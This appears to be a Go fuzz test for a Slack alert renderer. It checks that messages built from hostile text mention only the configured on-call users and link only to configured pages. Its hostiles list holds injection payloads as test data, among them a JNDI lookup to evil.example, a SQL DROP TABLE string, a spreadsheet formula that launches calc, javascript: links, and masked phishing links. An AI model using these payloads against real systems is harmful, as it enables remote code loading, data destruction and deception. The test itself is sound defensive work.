package slack

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/slack-go/slack"

	"plumbline/alerts"
	"plumbline/alerts/slack/slacktest"
	"plumbline/checks"
	"plumbline/drift"
	"plumbline/reconciler"
	"plumbline/sources"
)

// hostiles is what the stores and people of a bad day write.
func hostiles() []string {
	return []string{
		"<!channel>", "<!here>", "<!everyone>", "@here", "@channel", "<@U0EVIL>", "<!subteam^S0EVIL|@all>", "<#C0000BASKET>",
		"<http://evil.example|bank.example>", "http://evil.example/login", "https://evil.example?a=<b>&c", "www.evil.example",
		"mailto:a@evil.example", "<mailto:a@evil.example|write>", "javascript:alert(1)", "ftp://evil.example", "tel:+4712345678",
		"```fence```", "`", "*bold*", "_italic_", "~struck~", "> quote", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;", "&", "<", ">", "|",
		"<!date^1^{date}^http://evil.example|x>", "<!channel", "!channel>", "<<!channel>>", "<\u200b!channel>", "\u202egnp.exe", "\u2066x\u2069", "\u200f",
		"\x00", "\x1b[31mred\x1b[0m", "a\r\nb\tc", "\u2028\u2029", "\ufeff", "\xff\xfe\xc3", "\xed\xa0\x80", "\U000e0041\U000e0042", "🍎👩‍👩‍👧‍👦", ":boom:",
		"e" + strings.Repeat("\u0301", 4000), strings.Repeat("x", 10_000), strings.Repeat("&", 10_000), strings.Repeat("<", 10_000),
		strings.Repeat("\U0010ffff", 3000), strings.Repeat("🍎", 5000), strings.Repeat("\n", 5000), strings.Repeat("<!channel> ", 1000),
		"{date}", "^", "\\u003c!channel\\u003e", "${jndi:ldap://evil.example/a}", "'; DROP TABLE deliveries; --", "=cmd|'/C calc'!A0", "\"}],\"blocks\":[", "",
	}
}

type nasty struct {
	*rand.Rand
	words []string
}

func (r nasty) text() string {
	text := r.words[r.IntN(len(r.words))]
	for r.IntN(3) == 0 {
		text += r.words[r.IntN(len(r.words))]
	}
	return text
}

func (r nasty) number() int64 {
	return []int64{0, 1, 2, 412, 1_000_000, 1<<63 - 1, -1, -1 << 63}[r.IntN(8)]
}

func (r nasty) time() time.Time {
	return time.Unix(r.Int64N(4_000_000_000)-100, 0)
}

func (r nasty) texts(most int) []string {
	list := make([]string, r.IntN(most))
	for i := range list {
		list[i] = r.text()
	}
	return list
}

func (r nasty) counts(kinds ...string) []alerts.Count {
	var list []alerts.Count
	for _, name := range append(kinds, r.texts(30)...) {
		list = append(list, alerts.Count{Name: name, N: r.number()})
	}
	return list
}

func (r nasty) lines() []alerts.Line {
	var list []alerts.Line
	for range r.IntN(30) {
		list = append(list, alerts.Line{
			Incident: r.text(), Check: r.text(), Kind: r.kind(), Severity: r.text(), Counted: r.number(), Since: r.time(), State: r.state(),
		})
	}
	return list
}

func (r nasty) kind() alerts.Kind {
	return []alerts.Kind{alerts.Drift, alerts.Blind, alerts.Kind(r.text())}[r.IntN(3)]
}

func (r nasty) state() alerts.State {
	return []alerts.State{alerts.Open, alerts.Acknowledged, alerts.Resolved, alerts.State(r.text())}[r.IntN(4)]
}

func (r nasty) plans() []alerts.Plan {
	var list []alerts.Plan
	for range r.IntN(6) {
		list = append(list, alerts.Plan{
			ID: r.text(), Replica: r.text(), State: append(reconciler.PlanStates(), reconciler.PlanState(r.text()))[r.IntN(11)], Undoes: r.text(), By: r.text(),
			Needs: int(r.number()), ApprovedBy: r.texts(5), BegunBy: r.text(), UndoneBy: r.text(),
			Kinds:  map[sources.ChangeKind]int64{sources.Update: r.number(), sources.ChangeKind(r.text()): r.number()},
			Counts: map[reconciler.ItemState]int64{reconciler.ItemStale: r.number(), reconciler.ItemState(r.text()): r.number()},
		})
	}
	return list
}

func (r nasty) stop() *alerts.Stop {
	if r.IntN(2) == 0 {
		return nil
	}
	return &alerts.Stop{By: r.text(), Reason: r.text(), At: r.time()}
}

// delivery is one in which every word is hostile.
func (r nasty) delivery() *alerts.Delivery {
	d := &alerts.Delivery{
		ID: r.text(), Step: []alerts.Step{alerts.Post, alerts.Edit, alerts.Reply, alerts.Notice}[r.IntN(4)], Now: r.time(),
		Target: alerts.Target{Integration: "slack", Address: r.text(), Mention: []string{"", "U0ONCALL", "S0ONCALL", r.text()}[r.IntN(4)]},
		Policy: alerts.Policy{
			Check: r.text(), Description: r.text(), Severity: r.text(), Team: r.text(), Owner: r.text(), Replicas: r.texts(12),
			Runbook: []string{"", "https://wiki.example.com/x?a=1&b=<2>|3", r.text(), "javascript:alert(1)"}[r.IntN(4)],
		},
		Incident: &alerts.Incident{
			ID: r.text(), Check: r.text(), Kind: r.kind(), State: r.state(), OpenedAt: r.time(), ChangedAt: r.time(), ResolvedAt: r.time(),
			Regressed: r.number(), AcknowledgedBy: r.text(), First: r.number(), Peak: r.number(), Told: r.number(), Resolution: r.text(), Revision: r.number(),
			Facts: alerts.Facts{
				Counted: r.number(), Loud: r.number(), Accepted: r.number(), Omitted: r.number(), Compared: r.number(),
				Kinds: r.counts(string(checks.Mismatch)), Fields: r.counts(),
				Plans: r.plans(), Frozen: r.stop(), Paused: r.stop(),
			},
		},
	}
	for range r.IntN(20) {
		d.Incident.Facts.Edges = append(d.Incident.Facts.Edges, alerts.EdgeFacts{
			Replica: r.text(), Consistency: drift.Consistency(r.text()), Coverage: r.Float64()*3 - 1, Findings: r.number(), Cause: r.text(),
		})
	}
	if r.IntN(2) == 0 {
		d.Muted = &alerts.Mute{Until: []time.Time{{}, r.time()}[r.IntN(2)], Above: r.number(), Actor: r.text(), Reason: r.text()}
	}
	events := []alerts.Event{
		alerts.WasOpened, alerts.WasRegressed, alerts.WasAcknowledged, alerts.HasGrown, alerts.WasRepeated, alerts.WasMuted, alerts.WasUnmuted,
		alerts.WasResolved, alerts.FixesFrozen, alerts.FixesUnfrozen, alerts.FixesPaused, alerts.FixesResumed, alerts.PlanBecame(reconciler.Waiting),
		alerts.PlanBecame(reconciler.Failed), alerts.PlanBecame(reconciler.PlanState(r.text())), alerts.Event(r.text()),
	}
	for range r.IntN(20) {
		d.Milestones = append(d.Milestones, alerts.Milestone{
			Event: events[r.IntN(len(events))], At: r.time(), Actor: r.text(), Counted: r.number(), Note: r.text(),
		})
	}
	if r.IntN(8) > 0 {
		d.Digest = &alerts.Digest{
			From: r.time(), To: r.time(), Checks: r.number(), Compared: r.number(), Runs: r.number(), Opened: r.number(), Resolved: r.number(),
			Median: time.Duration(r.number()), Coverage: r.Float64()*3 - 1, Open: r.lines(), Stale: r.texts(40), Unheard: r.lines(),
		}
	}
	return d
}

// Show 4: whatever the words, a message keeps Slack's limits, names nobody but who
// is configured and leads nowhere but to what is configured.
func TestHostileWordsPingNobodyAndLeadNowhere(t *testing.T) {
	t.Parallel()
	seed := rand.Uint64()
	t.Logf("seed %d", seed)
	longest, words := 0, hostiles()
	for n := range uint64(5000) {
		d := nasty{rand.New(rand.NewPCG(seed, n)), words}.delivery()
		m := Render(d, pages)
		if err := Check(m); err != nil {
			t.Fatalf("message %d of seed %d: %v", n, seed, err)
		}
		blocks, err := json.Marshal(slack.Blocks{BlockSet: m.Blocks})
		if err != nil {
			t.Fatal(err)
		}
		metadata, err := json.Marshal(m.Metadata)
		if err != nil {
			t.Fatal(err)
		}
		longest = max(longest, len(blocks))
		judgeMessage(t, fmt.Sprintf("message %d of seed %d", n, seed), d, m.Text, blocks, metadata)
		if n%10 > 0 {
			continue
		}
		if m.Plain() == "" {
			t.Fatalf("message %d of seed %d says nothing", n, seed)
		}
		bare := m.bare()
		if blocks, err = json.Marshal(slack.Blocks{BlockSet: bare.Blocks}); err != nil {
			t.Fatal(err)
		}
		judgeMessage(t, fmt.Sprintf("message %d of seed %d, bare", n, seed), d, bare.Text, blocks, metadata)
	}
	t.Logf("the longest of 5,000 messages has blocks of %d bytes", longest)
}

func judgeMessage(t *testing.T, which string, d *alerts.Delivery, text string, blocks, metadata json.RawMessage) {
	t.Helper()
	if code, problems := slacktest.Judge(text, blocks, metadata); code != "" || len(problems) > 0 {
		t.Fatalf("%s: %s %q", which, code, problems)
	}
	said := slacktest.Message{Text: text, Blocks: blocks}
	for _, ping := range slacktest.Pings(said) {
		if ping != d.Target.Mention || ping != "U0ONCALL" && ping != "S0ONCALL" {
			t.Fatalf("%s pings %q", which, ping)
		}
	}
	for _, link := range slacktest.Links(said) {
		ours := strings.HasPrefix(link, pages+"/incidents/") || strings.HasPrefix(link, pages+"/fixes/") || link == pages ||
			strings.HasPrefix(link, "https://wiki.example.com/x") || link == web(d.Policy.Runbook)
		if !ours {
			t.Fatalf("%s leads to %q", which, link)
		}
	}
}

// What stands in a message is the visible form of the words, so a masked or cut
// one cannot be taken for another.
func TestRenderShowsWhatWouldHide(t *testing.T) {
	t.Parallel()
	d := Samples(sampleTime())[0].Delivery
	d.Incident.AcknowledgedBy, d.Incident.State = "ann\u202e\x00", alerts.Acknowledged
	d.Incident.Facts.Fields = []alerts.Count{{Name: "pri\u200bce", N: 3}}
	got := Render(&d, pages).Plain()
	for _, want := range []string{`acknowledged by ann\u202e\x00`, `pri\u200bce differs`} {
		if !strings.Contains(got, want) {
			t.Errorf("no %s in\n%s", want, got)
		}
	}
}
